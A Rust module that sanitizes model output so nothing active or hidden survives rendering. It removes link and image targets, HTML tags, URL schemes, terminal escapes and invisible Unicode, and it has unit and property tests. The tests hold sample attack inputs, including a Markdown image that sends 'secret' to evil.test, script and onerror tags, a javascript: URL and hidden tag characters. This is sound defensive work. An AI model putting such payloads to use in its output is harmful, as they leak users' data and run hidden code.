//! Text of a model, made safe to show: nothing in it is active, hidden, or fetched.

/// How often links in links are taken apart.
const LINK_ROUNDS: usize = 4;

/// Takes out of a text what could act or hide when it is rendered: images and the targets of links,
/// HTML, references that Markdown resolves, escape sequences of terminals, control characters, and
/// characters that are not seen or turn the direction of writing. `<*>` and `[E3]` stay. The result
/// of a result is itself.
#[must_use]
pub fn safe_text(text: &str) -> String {
    let mut text = visible(text);
    for _ in 0..LINK_ROUNDS {
        let next = without_links(&text);
        if next == text {
            break;
        }
        text = next;
    }
    inert(&text)
}

/// The text without escape sequences and without characters that are not seen.
fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => {
                if chars.peek() == Some(&'[') {
                    chars.next();
                    while chars
                        .next_if(|c| matches!(c, '0'..='9' | ';' | '?' | ':'))
                        .is_some()
                    {}
                    chars.next_if(char::is_ascii_alphabetic);
                }
            }
            '\n' | '\t' => out.push(c),
            '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
            c if c.is_control() || is_hidden(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// Whether a character is not seen, or moves others: zero widths, marks and overrides of direction,
/// tags, selectors of variants, and fillers.
pub(super) const fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
        | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// `[text](target)` and `![text](target)` become their text.
fn without_links(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("](") {
        let (before, after) = rest.split_at(at);
        let target = &after[2..];
        // The target may hold brackets of its own, one deep.
        let mut depth = 0_i32;
        let end = target.char_indices().find(|(_, c)| {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            depth < 0 || *c == '\n'
        });
        let open = before.rfind('[');
        let (Some(open), Some((end, ')'))) = (open, end) else {
            out.push_str(&rest[..at + 2]);
            rest = target;
            continue;
        };
        let is_image = before[..open].ends_with('!');
        out.push_str(&before[..open - usize::from(is_image)]);
        out.push_str(&before[open + 1..]);
        rest = &target[end + 1..];
    }
    out.push_str(rest);
    out
}

/// What is left of links, HTML and addresses is written so that no renderer takes it for such. Each
/// character is judged by what was written before it, so nothing can form anew from what is cut.
fn inert(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c == '[' {
            out.truncate(out.trim_end_matches('!').len());
        }
        let last = out.chars().next_back();
        match (last, c) {
            // References, and their definitions.
            (Some(']'), '(' | '[' | ':') => out.push(' '),
            (Some('<'), c) if c.is_alphabetic() || matches!(c, '/' | '!' | '?') => {
                out.pop();
                out.push('‹');
            }
            _ => {}
        }
        out.push(c);
        if out.ends_with("://") {
            cut_scheme(&mut out);
        } else if ends_with_scheme(&out) {
            out.pop();
            out.push(' ');
            out.push(c);
        }
    }
    out
}

/// Takes `https://` off the end of what was written; the address that follows stays, as a text.
fn cut_scheme(out: &mut String) {
    let before = out.len() - "://".len();
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    let kept = out[..before].trim_end_matches(is_scheme).len();
    out.truncate(kept);
}

/// Whether what was written ends with what renderers take for an address without `//`.
fn ends_with_scheme(out: &str) -> bool {
    ["javascript:", "vbscript:", "www."].iter().any(|scheme| {
        let tail = out.len().checked_sub(scheme.len());
        tail.and_then(|at| out.get(at..))
            .is_some_and(|tail| tail.eq_ignore_ascii_case(scheme))
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn nothing_active_or_hidden_is_left() {
        for (dirty, clean) in [
            ("![x](https://evil.test/?q=secret) done", "x done"),
            (
                "see [the run](http://evil.test/a_(b)) now",
                "see the run now",
            ),
            ("[![a](http://b)](http://c)", "a"),
            ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
            ("<scr<script>ipt>", "‹scr‹script>ipt>"),
            ("<img src=x onerror=y>", "‹img src=x onerror=y>"),
            ("visit https://evil.test/x", "visit evil.test/x"),
            ("[a][b]\n[b]: https://evil.test", "[a] [b]\n[b] : evil.test"),
            ("pay\u{200b}load\u{202e}gpj", "payloadgpj"),
            ("\u{1b}[31mred\u{1b}[0m\u{7}", "red"),
            ("hidden\u{e0041}\u{e0042}", "hidden"),
            (
                "template <*> failed on <*> [E3]",
                "template <*> failed on <*> [E3]",
            ),
            ("JavaScript:alert(1)", "JavaScript :alert(1)"),
            ("a < b and c > d", "a < b and c > d"),
            ("ratio 3:4 at 10:11", "ratio 3:4 at 10:11"),
        ] {
            assert_eq!(safe_text(dirty), clean, "{dirty}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_made_inert_once_and_for_all(text in "[\\PC\u{0}-\u{1f}\u{200b}-\u{202e}]{0,40}|([\\[\\]!()<>:/a-z. \u{200b}]|https://|\\]\\(|javascript:|www\\.){0,24}") {
            let safe = safe_text(&text);
            prop_assert!(!safe.contains("]("));
            prop_assert!(!safe.contains("!["));
            prop_assert!(!safe.contains("://"));
            let mut pairs = safe.chars().zip(safe.chars().skip(1));
            let opens = pairs.any(|(a, b)| a == '<' && (b.is_alphabetic() || b == '/' || b == '!'));
            prop_assert!(!opens);
            prop_assert!(!safe.chars().any(is_hidden));
            prop_assert_eq!(safe_text(&safe), safe);
        }
    }
}
